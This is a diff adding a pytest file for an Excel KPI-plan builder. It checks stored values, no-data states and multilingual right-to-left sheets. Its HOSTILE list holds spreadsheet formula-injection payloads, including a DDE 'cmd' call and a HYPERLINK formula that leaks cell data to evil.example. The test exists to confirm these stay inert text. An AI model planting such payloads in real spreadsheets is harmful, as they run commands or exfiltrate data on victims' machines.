@@ -1,0 +1,117 @@
+"""What a reader sees without recalculating, hostile text, no-data states, languages."""
+
+from __future__ import annotations
+
+import math
+import re
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from kpi_xl.catalog import get, status_label
+from kpi_xl.plan.model import ALL
+from kpi_xl.plan.spec import load_template
+from kpi_xl.workbook.build import build_plan, plan_model
+from kpi_xl.workbook.overview_sheet import TABLE_HEADER
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "@SUM(1+1)",
+]
+
+
+def test_mail_preview_sees_the_python_numbers(
+    demo_plan: Callable[..., Path], sample: pd.DataFrame
+) -> None:
+    """pandas + calamine read stored values only: they must be the model's numbers."""
+    plan = demo_plan("ecommerce", "en")
+    model = plan_model(sample, load_template("ecommerce"))
+    sheet = pd.read_excel(plan, sheet_name=0, engine="calamine", header=None)
+    first = TABLE_HEADER + 1
+    for i, kpi_id in enumerate(model.spec.overall):
+        kpi = get(kpi_id)
+        row = sheet.iloc[first + i]
+        expected = model.value(kpi, ALL, model.current)
+        assert row[0] == kpi.name("en")
+        assert math.isclose(float(row[2]), expected, rel_tol=1e-12), kpi_id
+        assert math.isclose(float(row[3]), model.target(kpi_id, ALL, model.current), rel_tol=1e-12)
+        code = model.status(kpi, ALL, model.current)
+        assert row[5] == status_label(code, "en")
+
+
+def test_every_overview_kpi_cell_has_a_real_number(demo_plan: Callable[..., Path]) -> None:
+    plan = demo_plan("ecommerce", "en")
+    ws = openpyxl.load_workbook(plan, data_only=True).worksheets[0]
+    values = [ws.cell(TABLE_HEADER + 2 + i, 3).value for i in range(7)]
+    assert all(isinstance(v, int | float) for v in values), values
+
+
+def test_hostile_campaign_names_stay_text(sample: pd.DataFrame, tmp_path: Path) -> None:
+    frame = sample[sample["channel"] == "paid_search"].copy()
+    campaigns = sorted(frame["campaign"].unique())
+    mapping = {c: HOSTILE[i % len(HOSTILE)] + f" #{i}" for i, c in enumerate(campaigns)}
+    frame["campaign"] = frame["campaign"].map(mapping)
+    out = build_plan(frame, tmp_path / "hostile.xlsx")
+    with zipfile.ZipFile(out) as zf:
+        xml = {n: zf.read(n).decode() for n in zf.namelist() if n.endswith(".xml")}
+    formulas = [f for text in xml.values() for f in re.findall(r"<f>(.*?)</f>", text)]
+    assert formulas
+    for f in formulas:
+        for bad in ("cmd|", "HYPERLINK", "SUM(1+1)", "evil.example"):
+            assert bad not in f
+    data = openpyxl.load_workbook(out).worksheets[-4]  # Data sheet
+    texts = {c.value for row in data.iter_rows(min_col=3, max_col=3) for c in row}
+    for name in mapping.values():
+        assert name in texts
+    cells = [c for row in data.iter_rows(min_col=3, max_col=3) for c in row]
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_channels_without_data_show_no_data_not_errors(
+    sample: pd.DataFrame, tmp_path: Path
+) -> None:
+    only_seo = sample[sample["channel"] == "seo"].dropna(axis=1, how="all")
+    out = build_plan(only_seo, tmp_path / "partial.xlsx")
+    wb = openpyxl.load_workbook(out, data_only=True)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert not (isinstance(c.value, str) and c.value.startswith("#DIV")), c.coordinate
+    email = wb.worksheets[5]
+    assert email.title == "Email"
+    numbers = [
+        c.value
+        for row in email.iter_rows(min_row=6, max_row=10, min_col=3)
+        for c in row
+        if isinstance(c.value, int | float)
+    ]
+    assert numbers == []
+
+
+@pytest.mark.parametrize("lang", ["en", "fa", "he", "fi", "uz"])
+@pytest.mark.parametrize("template", ["ecommerce", "leadgen", "content", "saas"])
+def test_all_templates_build_in_all_languages(
+    demo_plan: Callable[..., Path], template: str, lang: str
+) -> None:
+    plan = demo_plan(template, lang)
+    wb = openpyxl.load_workbook(plan)
+    rtl = lang in ("fa", "he")
+    visible = [ws for ws in wb.worksheets if ws.sheet_state == "visible"]
+    assert all(bool(ws.sheet_view.rightToLeft) == rtl for ws in visible)
+    assert wb["_meta"].sheet_state == "veryHidden"
+    assert wb.active.title == visible[0].title
+    spec = load_template(template)
+    assert len(visible) == 5 + len(spec.channels)
+    if lang != "en":
+        assert wb.worksheets[0].title != "Overview"
